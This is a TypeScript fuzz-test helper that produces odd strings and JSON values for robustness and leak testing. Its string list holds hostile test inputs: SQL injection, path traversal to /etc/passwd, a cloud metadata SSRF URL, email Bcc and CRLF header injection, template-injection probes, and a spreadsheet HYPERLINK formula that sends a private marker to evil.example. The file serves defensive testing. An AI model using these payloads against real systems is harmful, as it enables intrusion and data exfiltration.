import { oneOf, type Random, whole } from "#tests/support/random.ts";
import { headerMark, markupAsElement, markupMark, privateMark } from "./marks.ts";

type Maker<T> = (random: Random) => T;

const texts: readonly [Maker<string>, ...Maker<string>[]] = [
  () => "",
  () => " ".repeat(40),
  () => "\u0000",
  (random) => `${privateMark}\u0000${whole(random, 99)}`,
  () => "\ud800",
  () => `${privateMark}\udc00\ud83d`,
  () => "\u202e\u200b\ufeff\u2028\u2029",
  (random) => privateMark.repeat(1 + whole(random, 200)),
  (random) => "a".repeat(10 ** (1 + whole(random, 5))),
  (random) => "é漢😀".repeat(1 + whole(random, 3_000)),
  () => markupMark,
  () => `</script>${markupAsElement}`,
  () => `javascript:alert("${privateMark}")`,
  () => `${privateMark}\r\n${headerMark}: 1\r\n\r\n<html>`,
  () => `x@y.example\nBcc: ${privateMark}@evil.example`,
  () => `'; drop table lead; -- ${privateMark}`,
  () => "1' or '1'='1",
  () => "%00%0d%0a%2e%2e%2f",
  () => "../../../../etc/passwd",
  () => "$" + "{7*7}{{7*7}}<%= 7*7 %>%s%n%x",
  () => `=HYPERLINK("http://evil.example/${privateMark}")`,
  () => "NaN",
  () => "-Infinity",
  () => "1e999",
  () => "0x7fffffff",
  () => "2025-02-30T25:61:61Z",
  () => "__proto__",
  () => "constructor",
  () => "toString",
  () => "http://169.254.169.254/latest/meta-data",
  () => "http://[::ffff:127.0.0.1]:22/",
  () => "file:///etc/passwd",
  () => `https://${privateMark}.example/${"a/".repeat(900)}`,
  // Input on which a careless expression would never end.
  (random) => `${"a".repeat(50 + whole(random, 20_000))}!`,
  (random) => `${" ".repeat(50 + whole(random, 20_000))}x`,
  (random) => `${"a@".repeat(1 + whole(random, 5_000))}`,
  (random) => `${"1,".repeat(1 + whole(random, 5_000))}`,
  (random) => "<a ".repeat(1 + whole(random, 5_000)),
];

export function oddText(random: Random): string {
  return oneOf(random, texts)(random);
}

const numbers = [
  0,
  -0,
  -1,
  0.1,
  1e-300,
  1e21,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 2,
  2 ** 31,
  2 ** 32,
  2 ** 63,
  Number.MIN_VALUE,
] as const;

function nested(depth: number, kind: "array" | "object"): unknown {
  let value: unknown = privateMark;
  for (let level = 0; level < depth; level++) value = kind === "array" ? [value] : { a: value };
  return value;
}

const values: readonly [Maker<unknown>, ...Maker<unknown>[]] = [
  oddText,
  oddText,
  oddText,
  (random) => oneOf(random, numbers),
  (random) => oneOf(random, numbers),
  () => null,
  () => true,
  () => false,
  () => [],
  () => ({}),
  (random) => [oddText(random), oneOf(random, numbers), null],
  (random) => Array.from({ length: 1 + whole(random, 2_000) }, () => 0),
  (random) => nested(1 + whole(random, 2_000), oneOf(random, ["array", "object"])),
  (random) => Object.fromEntries(Array.from({ length: 1 + whole(random, 500) }, (_, index) => [`k${index}`, index])),
];

/** A value of any kind that JSON has. */
export function oddValue(random: Random): unknown {
  return oneOf(random, values)(random);
}
